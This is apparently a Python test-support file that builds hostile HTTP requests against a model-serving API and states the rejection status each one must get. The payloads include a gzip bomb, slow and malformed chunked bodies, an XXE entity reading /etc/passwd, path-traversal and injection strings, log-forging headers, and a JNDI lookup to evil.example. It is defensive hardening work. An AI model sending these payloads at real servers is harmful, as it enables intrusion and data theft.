"""Hostile bodies, paths and texts for logs, sent with a valid credential or without one."""

import gzip
import json
import time
from collections.abc import Callable, Iterator

from stream_scorer.serving.settings.inference import Inference
from stream_scorer.serving.web.messages import JSON
from tests.support.hostile.case import HostileRequest
from tests.support.hostile.inference_bodies import DATA_ERRORS, FORM_ERRORS, LIES
from tests.support.openapi.raw_requests import (
    ENDED,
    RawAnswer,
    ask,
    parsed_answer,
    request_bytes,
)
from tests.support.openapi.served_api import GOOD_BODY, MODEL, VERSION, ServedApi
from tests.support.serving.running_server import until_closed

INFER = f"/v2/models/{MODEL}/infer"
GOOD = json.dumps(GOOD_BODY).encode()
Send = Callable[[ServedApi], RawAnswer]


def post(body: bytes, *fields: tuple[str, str], kind: str | None = JSON, path: str = INFER) -> Send:
    """Return what sends a body with a valid key."""
    typed = [] if kind is None else [("content-type", kind)]
    return lambda api: ask(
        api, "POST", path, [("authorization", api.credential()), *typed, *fields], body
    )


def get(path: str, *fields: tuple[str, str], method: str = "GET") -> Send:
    """Return what asks for a path with a valid key."""
    return lambda api: ask(api, method, path, [("authorization", api.credential()), *fields])


def unfinished(head: bytes, *fields: tuple[str, str], key: bool = True, drip: bool = False) -> Send:
    """Return what sends the beginning of a body, and perhaps a byte now and then."""

    def send(api: ServedApi) -> RawAnswer:
        own = [("authorization", api.credential())] if key else []
        sent = request_bytes("POST", INFER, [*own, ("content-type", JSON), *fields, ENDED])
        with api.connect() as opened:
            opened.sendall(sent + head)
            if drip:
                opened.settimeout(0.1)
                parts = []
                for _ in range(200):
                    try:
                        part = opened.recv(65_536)
                    except TimeoutError:
                        opened.sendall(b" ")
                        continue
                    except ConnectionResetError:
                        break
                    if not part:
                        break
                    parts.append(part)
                return parsed_answer(b"".join(parts))
            return parsed_answer(until_closed(opened))

    return send


def announced(length: int, *, key: bool = True) -> Send:
    """Return what announces a body and sends nothing of it."""
    return unfinished(b"", ("content-length", str(length)), key=key)


def early(api: ServedApi) -> RawAnswer:
    """Announce 1 GB without a credential; the answer must not wait for the body."""
    begin = time.monotonic()
    answer = announced(10**9, key=False)(api)
    assert time.monotonic() - begin < 5.0
    return answer


BYTES_MOST = Inference().body_bytes_max
BOMB = gzip.compress(b" " * 10_000_000)
BODIES = (
    HostileRequest("body: 5 MB", "large", 413, post(b" " * 5_000_000), "at most"),
    HostileRequest("body: 1 GB is announced", "large", 413, announced(10**9)),
    HostileRequest("body: 1 GB without a credential", "order", 401, early),
    HostileRequest("body: 1 GB without the scope", "order", 403, lambda api: ask(
        api, "POST", INFER, [("authorization", api.credential("operator")),
                             ("content-type", JSON), ("content-length", str(10**9))])),
    HostileRequest("body: never ends", "slow", 408,
                   unfinished(b"{", ("content-length", "100"))),
    HostileRequest("body: a byte now and then", "slow", 408,
                   unfinished(b"{", ("content-length", "1000000"), drip=True)),
    HostileRequest("body: chunks that never end", "slow", 408,
                   unfinished(b"5\r\n{", ("transfer-encoding", "chunked"))),
    HostileRequest("body: a chunk of 2**64 bytes", "framing", 400,
                   unfinished(b"f" * 17 + b"\r\n{}", ("transfer-encoding", "chunked")),
                   "ended before"),
    HostileRequest("body: a byte more than allowed, in chunks", "large", 413,
                   unfinished(b"%x\r\n" % (BYTES_MOST + 1) + b" " * (BYTES_MOST + 1),
                              ("transfer-encoding", "chunked")), "at most"),
    HostileRequest("body: two codings", "framing", 400,
                   unfinished(b"0\r\n\r\n", ("transfer-encoding", "gzip, chunked")),
                   "length is not clear"),
    HostileRequest("body: a compressed bomb", "encoding", 415,
                   post(BOMB, ("content-encoding", "gzip"))),
    HostileRequest("body: an unknown coding", "encoding", 415,
                   post(GOOD, ("content-encoding", "x-evil"))),
    HostileRequest("body: XML", "type", 415, post(
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        kind="application/xml")),
    HostileRequest("body: a form", "type", 415, post(
        b"inputs=1", kind="application/x-www-form-urlencoded")),
    HostileRequest("body: text/plain, as pages may send it", "type", 415,
                   post(GOOD, kind="text/plain")),
    HostileRequest("body: several parts", "type", 415,
                   post(b"--x--", kind="multipart/form-data; boundary=x")),
    HostileRequest("body: JSON in UTF-16 by its charset", "type", 415, post(
        GOOD.decode().encode("utf-16"), kind="application/json; charset=utf-16")),
    HostileRequest("body: a type of 8,000 letters", "type", 415,
                   post(GOOD, kind="application/" + "x" * 8_000)),
    HostileRequest("body: of a GET", "large", 413, lambda api: ask(
        api, "GET", f"/v2/models/{MODEL}", [("authorization", api.credential()),
                                            ("content-type", JSON)], b"{}")),
)  # fmt: skip

_MODELS = {
    "dot segments": ("/v2/models/../../etc/passwd", 400, "paths"),
    "encoded dot segments": ("/v2/models/%2e%2e/%2e%2e/openapi.json", 400, "paths"),
    "dots encoded twice": ("/v2/models/%252e%252e%252fetc", 400, "paths"),
    "an encoded slash": (f"/v2/models/{MODEL}%2f..%2f..", 400, "paths"),
    "an encoded slash in a name": (f"/v2%2fmodels%2f{MODEL}%2fx%2fy", 404, "once"),
    "a backslash": ("/v2/models/..%5c..%5cwindows", 400, "paths"),
    "a NUL": (f"/v2/models/{MODEL}%00.json", 400, "paths"),
    "a line break": (f"/v2/models/{MODEL}%0d%0aset-cookie:%20a=b", 400, "paths"),
    "an escape sequence": ("/v2/models/%1b%5b2J%1b%5d0;x%07", 400, "paths"),
    "half an escape": (f"/v2/models/{MODEL}%2", 400, "paths"),
    "invalid UTF-8": ("/v2/models/%ff%fe", 400, "paths"),
    "overlong UTF-8": ("/v2/models/%c0%af", 400, "paths"),
    "a surrogate": ("/v2/models/%ed%a0%80", 400, "paths"),
    "a right-to-left override": ("/v2/models/%e2%80%aeduarf", 400, "paths"),
    "a zero-width space": (f"/v2/models/{MODEL}%e2%80%8b", 400, "paths"),
    "a full-width spelling": ("/v2/models/%ef%bd%86raud", 404, "unknown model"),
    "a Cyrillic letter": ("/v2/models/fr%d0%b0ud", 404, "unknown model"),
    "a decomposed letter": ("/v2/models/frau%cc%81d", 404, "unknown model"),
    "another case": ("/v2/models/FRAUD", 404, "unknown model"),
    "a blank after the name": (f"/v2/models/{MODEL}%20", 404, "unknown model"),
    "a dot after the name": (f"/v2/models/{MODEL}.", 404, "unknown model"),
    "a parameter in a segment": (f"/v2/models/{MODEL};v=1", 404, "unknown model"),
    "SQL": ("/v2/models/x'%20OR%20'1'='1", 404, "unknown model"),
    "a template": ("/v2/models/$%7B7*7%7D", 404, "unknown model"),
    "a version that is a path": (f"/v2/models/{MODEL}/versions/..%2f..", 400, "paths"),
    "a version that is a range": (f"/v2/models/{MODEL}/versions/%3E=1", 404,
                                  "unknown model"),
    "a version with other digits": (f"/v2/models/{MODEL}/versions/%d9%a1.2.0", 404,
                                    "unknown model"),
    "an empty name": ("/v2/models/", 404, "exact"),
    "an empty segment": (f"/v2//models/{MODEL}", 400, "paths"),
    "a slash at the end": (f"/v2/models/{MODEL}/", 404, "exact"),
    "another case of the route": (f"/V2/models/{MODEL}", 404, "exact"),
    "a name of 1,500 letters": ("/v2/models/" + "a" * 1_500, 404, "unknown model"),
    "a path of 3,000 letters": ("/v2/models/" + "a" * 3_000, 400, "paths"),
    "a route of the probes": ("/health/ready", 404, "exact"),
    "a route of the metrics": ("/metrics", 404, "exact"),
}  # fmt: skip
PATHS = tuple(
    HostileRequest(f"path: {name}", rule, status, get(path))
    for name, (path, status, rule) in _MODELS.items()
)

METHODS = (
    HostileRequest("method: a preflight", "methods", 405, lambda api: ask(
        api, "OPTIONS", INFER, [("origin", "https://evil.example"),
                                ("access-control-request-method", "POST")])),
    HostileRequest("method: TRACE", "methods", 405, get(INFER, method="TRACE")),
    HostileRequest("method: another one by a header", "methods", 405, get(
        INFER, ("x-http-method-override", "POST"))),
    HostileRequest("method: DELETE of a model", "methods", 405, get(
        f"/v2/models/{MODEL}", method="DELETE")),
    HostileRequest("method: PUT of the document", "methods", 405, get(
        "/openapi.json", method="PUT")),
)  # fmt: skip

FIELDS = (
    HostileRequest("field: UTF-8 in a value", "fields", 400, get(
        f"/v2/models/{MODEL}", ("x-note", "\xc3\xa9")), "visible ASCII"),
    HostileRequest("field: no host", "fields", 400, lambda api: parsed_answer(api.exchange(
        b"GET /v2 HTTP/1.1\r\nauthorization: %b\r\nconnection: close\r\n\r\n"
        % api.credential().encode())), "host is missing"),
)  # fmt: skip

_FORGED_LINE = '","level":"error","event":"forged'
LOGS = (
    HostileRequest("log: a request id that is JSON", "id", 200, get(
        f"/v2/models/{MODEL}", ("x-request-id", _FORGED_LINE))),
    HostileRequest("log: a request id of 65 letters", "id", 200, get(
        f"/v2/models/{MODEL}", ("x-request-id", "a" * 65))),
    HostileRequest("log: a request id with a tab", "id", 200, get(
        f"/v2/models/{MODEL}", ("x-request-id", "a\tb"))),
    HostileRequest("log: an escape sequence in a field", "head", 400, get(
        f"/v2/models/{MODEL}", ("user-agent", "\x1b[2J\x1b]0;x\x07"))),
    HostileRequest("log: a line break in the query", "log", 200, get(
        f"/v2/models/{MODEL}?x=%0d%0aforged%20line")),
    HostileRequest("log: a secret in the query", "log", 200, get(
        f"/v2/models/{MODEL}?password=hunter2")),
    HostileRequest("log: a look-up in the user agent", "log", 200, get(
        f"/v2/models/{MODEL}", ("user-agent", "${jndi:ldap://evil.example/a}"))),
    HostileRequest("log: a forged address", "log", 200, get(
        f"/v2/models/{MODEL}", ("x-forwarded-for", '127.0.0.1"\\n{"forged": 1}'))),
    HostileRequest("log: a forged line as a model's name", "log", 404, get(
        "/v2/models/%22,%22level%22:%22error")),
    HostileRequest("log: a name of a tensor with a line break", "leak", 400, post(
        json.dumps({"inputs": [{**GOOD_BODY["inputs"][0], "name": "a\n\x1b[2J"}]}).encode()),
        "unknown input"),
    HostileRequest("log: a path of the server in a version", "leak", 404, get(
        f"/v2/models/{MODEL}/versions/{VERSION}%20")),
)  # fmt: skip


def _json_bodies() -> Iterator[HostileRequest]:
    """Yield the bodies of the unit tests, now over HTTP."""
    for name, (body, words) in {**DATA_ERRORS, **FORM_ERRORS}.items():
        plain = "" if "'" in words or "\\" in words or '"' in words else words
        rule = "not json" if name in {"NaN", "Infinity", "-Infinity"} else "inference"
        yield HostileRequest(f"json: {name}", rule, 400, post(body), plain)
    for name, (body, data, header, words) in LIES.items():
        length = str(len(body)) if header is None else header
        if not length.isascii():
            length = length.encode().decode("latin-1")
        # The server refuses the one, and drops the blank of the other.
        plain = "" if name in {"header in other digits", "header with a blank"} else words
        fields = ("inference-header-content-length", length)
        yield HostileRequest(f"binary: {name}", "inference", 400, post(body + data, fields), plain)


JSON_BODIES: tuple[HostileRequest, ...] = tuple(_json_bodies())


def depth(levels: int) -> bytes:
    """Return nested lists as JSON."""
    return b'{"inputs": %s%s}' % (b"[" * levels, b"]" * levels)


DEEP = tuple(
    HostileRequest(f"deep: {levels} levels", "inference", 400, post(depth(levels)))
    for levels in (100, 1_000, 100_000, 1_000_000)
)
